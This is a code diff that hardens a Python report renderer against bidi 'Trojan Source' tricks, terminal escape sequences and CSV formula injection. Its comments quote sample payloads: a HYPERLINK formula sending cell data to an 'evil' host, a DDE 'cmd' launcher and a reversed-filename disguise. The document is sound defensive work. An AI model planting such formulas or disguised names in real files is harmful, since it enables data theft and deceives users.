@@ -39,9 +39,59 @@ MARKDOWN_TEXT_WIDTH = 80
 _CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ud800-\udfff\ufffe\uffff]")
 
 
+#: The bidirectional embeddings, overrides and isolates (and the Arabic letter mark): an anchor
+#: text holding U+202E shows the rest of its line reversed (`gnp.exe` for `exe.png`: "Trojan
+#: Source", CVE-2021-42574). Markdown, JUnit and HTML show text to people, so they drop them;
+#: json, jsonl and csv are data and keep the text as it was.
+_BIDI = re.compile("[\u061c\u202a-\u202e\u2066-\u2069]")
+
+
 def _clean(text: object) -> str:
-    """One line of printable text: control characters removed, line breaks made spaces."""
-    return " ".join(_CONTROL.sub("", "" if text is None else str(text)).split())
+    """One line of printable text: control characters and bidi overrides removed, line breaks
+    made spaces."""
+    return " ".join(_BIDI.sub("", _CONTROL.sub("", "" if text is None else str(text))).split())
+
+
+#: What must not reach a terminal as it is: C0 and C1 controls and DEL (ESC starts the
+#: sequences that move the cursor, clear the screen or set the window title; rich passes ESC
+#: through) and the bidi controls above. All can sit in an anchor text, a URL or a file name.
+_UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
+
+
+def inert(text: object, width: int | None = None) -> str:
+    """`text` for a terminal: each unsafe character written as its escape (`\\x1b`, `\\u202e`),
+    visible and inert, so a file name with an escape sequence is still told apart; `width`
+    cuts it (an anchor text can be a paragraph)."""
+    value = "" if text is None else str(text)
+    if width is not None and len(value) > width:
+        value = value[: width - 1].rstrip() + "…"
+    return _UNSAFE.sub(_escape, value)
+
+
+def _escape(match: re.Match[str]) -> str:
+    code = ord(match.group())
+    if 0xDC80 <= code <= 0xDCFF:  # a byte of a file name that is not UTF-8 (surrogateescape)
+        return f"\\x{code - 0xDC00:02x}"
+    return match.group().encode("unicode_escape").decode("ascii")
+
+
+#: What a spreadsheet takes for the start of a formula (OWASP "CSV Injection"): an anchor text
+#: `=HYPERLINK("http://evil/?"&A1)` or `+cmd|' /C calc'!A0` would run when the csv is opened in
+#: Excel, LibreOffice or Google Sheets. The same policy as `resolver scan`'s csv.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value: object) -> object:
+    """A csv cell: text that starts like a formula gets a leading `'` (spreadsheets show it as
+    text); a lone `-` (stdin) is text already. Booleans as JSON writes them, None empty; json
+    and jsonl carry the text untouched, for scripts."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    if isinstance(value, str) and len(value) > 1 and value.startswith(_FORMULA_START):
+        return "'" + value
+    return value
 
 
 def _web_url(url: str | None) -> str | None:
@@ -158,8 +208,14 @@ def _md(text: object, width: int | None = None) -> str:
 
 def _md_percent_encode(url: str) -> str:
     """Spaces, `<`, `>` and `\\` percent-encoded: autolinks and link destinations cannot hold
-    them (CommonMark 6.5, 6.3), and a backslash would start an escape in a destination."""
-    return re.sub(r"[\x00-\x20\x7f<>\\]", lambda m: f"%{ord(m.group()):02X}", url)
+    them (CommonMark 6.5, 6.3), and a backslash would start an escape in a destination. Bidi
+    overrides too (as their UTF-8 bytes, as a browser sends them): the link still goes to the
+    same place, and the line is not shown reversed."""
+    return re.sub(
+        "[\x00-\x20\x7f<>\\\\\u061c\u202a-\u202e\u2066-\u2069]",
+        lambda m: "".join(f"%{b:02X}" for b in m.group().encode("utf-8")),
+        url,
+    )
 
 
 def _md_url(url: str | None, label: str | None = None) -> str:
@@ -347,8 +403,8 @@ def write_junit(
 
 
 def _h(text: object) -> str:
-    """Text for HTML content or a quoted attribute."""
-    return html.escape(_CONTROL.sub("", "" if text is None else str(text)), quote=True)
+    """Text for HTML content or a quoted attribute (controls and bidi overrides dropped)."""
+    return html.escape(_BIDI.sub("", _CONTROL.sub("", "" if text is None else str(text))), quote=True)
 
 
 def _link(url: str | None, label: str | None = None) -> str:
@@ -357,7 +413,9 @@ def _link(url: str | None, label: str | None = None) -> str:
     shown = _h(url if label is None else label)
     if web is None:
         return shown
-    return f'<a href="{_h(web)}" rel="noopener noreferrer nofollow">{shown}</a>'
+    # The href is the URL exactly (only escaped): what is dropped from text for people must
+    # not change where the link goes.
+    return f'<a href="{html.escape(web, quote=True)}" rel="noopener noreferrer nofollow">{shown}</a>'
 
 
 def _json_block(data: Any) -> str:
@@ -702,7 +760,9 @@ def render_html(
 __all__ = [
     "HTML_DOMAINS",
     "MARKDOWN_DOMAINS",
+    "csv_cell",
     "failing_verdicts",
+    "inert",
     "render_html",
     "write_junit",
     "write_markdown",
